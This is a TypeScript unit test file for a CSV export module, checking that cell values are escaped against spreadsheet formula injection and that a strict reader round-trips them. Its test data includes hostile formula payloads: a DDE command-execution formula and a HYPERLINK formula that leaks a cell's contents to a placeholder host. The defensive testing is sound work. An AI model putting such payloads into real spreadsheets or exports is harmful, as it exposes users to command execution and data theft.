import * as fc from "fast-check";
import { expect, test } from "vitest";
import { csvCell, csvLine, readCell } from "../../app/desk/export/export-format.ts";
import { readCsv } from "../support/read-csv.ts";

test.each([
  ["=1+1", `"'=1+1"`],
  ['=HYPERLINK("http://x.example?"&A1)', `"'=HYPERLINK(""http://x.example?""&A1)"`],
  ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
  ["+1 704 555 0100", `"'+1 704 555 0100"`],
  ["-2+3", `"'-2+3"`],
  ["@SUM(A1)", `"'@SUM(A1)"`],
  ["\t=1+1", `"'\t=1+1"`],
  ["\r=1+1", `"'\r=1+1"`],
  ["\n=1+1", `"'\n=1+1"`],
  ["＝1+1", `"'＝1+1"`],
  ["'=1+1", `"''=1+1"`],
  ["a,b", `"a,b"`],
  ["a;=1+1", `"a;=1+1"`],
  ['say "hi"', `"say ""hi"""`],
  ["'tis", `"'tis"`],
  ["1-2", `"1-2"`],
  ["", `""`],
])("the cell of %j is %s", (text, cell) => {
  expect(csvCell(text)).toBe(cell);
});

test("figures are bare, nothing is empty, and a list is its parts", () => {
  expect(csvLine([12, -3, null, ["a", "b"], []])).toBe('12,-3,,"a; b",""\r\n');
});

test("a list that begins with a formula is no formula", () => {
  expect(csvCell(["=1+1", "b"])).toBe(`"'=1+1; b"`);
});

test("a strict reader gets every text back, and none of them begins a formula", () => {
  const texts = fc.array(fc.oneof(fc.string(), fc.stringMatching(/^['=+\-@\t\r\n",a]{0,6}$/)), {
    minLength: 1,
    maxLength: 6,
  });
  fc.assert(
    fc.property(texts, (values) => {
      const [record = []] = readCsv(csvLine(values));
      expect(record.map(readCell)).toEqual(values);
      for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }),
  );
});

test.each(['"a', "a\n", "a,b\r\nc\r\n", 'a"b\r\n', '"a"b\r\n'])("the strict reader refuses %j", (text) => {
  expect(() => readCsv(text)).toThrow(/Record|quote/);
});
